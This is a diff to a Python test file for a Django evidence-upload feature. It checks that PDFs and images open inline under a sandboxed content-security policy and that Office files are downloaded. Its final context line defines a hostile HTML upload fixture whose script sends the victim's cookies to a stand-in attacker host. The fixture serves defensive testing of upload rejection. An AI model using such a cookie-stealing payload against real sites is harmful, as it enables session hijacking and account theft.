@@ -220,6 +220,52 @@ def test_a_missing_file_on_disk_is_404(client, world):
     assert client.get(reverse("reports:evidence", args=[world.report_a.pk, evidence.pk])).status_code == 404
 
 
+@pytest.mark.parametrize(
+    ("name", "make", "content_type"),
+    [("bien-ban.pdf", minimal_pdf, "application/pdf"), ("anh.png", lambda: image_bytes("PNG"), "image/png")],
+)
+def test_a_pdf_or_an_image_opens_in_the_browser_in_a_sandbox(client, world, name, make, content_type):
+    content = make()
+    client.force_login(world.officer_a)
+    upload(client, world.report_a, name, content)
+    evidence = Evidence.objects.get(report=world.report_a)
+
+    response = client.get(reverse("reports:view_evidence", args=[world.report_a.pk, evidence.pk]))
+
+    assert response.status_code == 200
+    assert response["Content-Disposition"] == f'inline; filename="{name}"'
+    assert response["Content-Type"] == content_type
+    assert response["X-Content-Type-Options"] == "nosniff"
+    policy = [part.strip() for part in response["Content-Security-Policy"].split(";")]
+    assert policy[0] == "sandbox"
+    assert "default-src 'none'" in policy
+    assert "script-src" not in response["Content-Security-Policy"]
+    assert {"private", "no-store"} <= {part.strip() for part in response["Cache-Control"].split(",")}
+    assert b"".join(response.streaming_content) == content
+
+
+def test_an_office_document_is_downloaded_not_opened(client, world):
+    client.force_login(world.officer_a)
+    upload(client, world.report_a, "so-lieu.docx", docx_bytes())
+    evidence = Evidence.objects.get(report=world.report_a)
+
+    response = client.get(reverse("reports:view_evidence", args=[world.report_a.pk, evidence.pk]))
+
+    assert response.status_code == 302
+    assert response.url == reverse("reports:evidence", args=[world.report_a.pk, evidence.pk])
+
+
+def test_the_group_page_offers_to_open_a_pdf_and_to_download_it(client, world):
+    client.force_login(world.officer_a)
+    upload(client, world.report_a, "bien-ban.pdf", minimal_pdf())
+    evidence = Evidence.objects.get(report=world.report_a)
+
+    page = client.get(reverse("reports:group", args=[world.report_a.pk, "1"])).content.decode()
+
+    assert f'href="{reverse("reports:view_evidence", args=[world.report_a.pk, evidence.pk])}" target="_blank"' in page
+    assert f'href="{reverse("reports:evidence", args=[world.report_a.pk, evidence.pk])}" download' in page
+
+
 # Hostile uploads: refused with a message, nothing stored.
 
 HTML = b"<!DOCTYPE html><html><body><script>document.location='https://evil.example/?c='+document.cookie</script>"
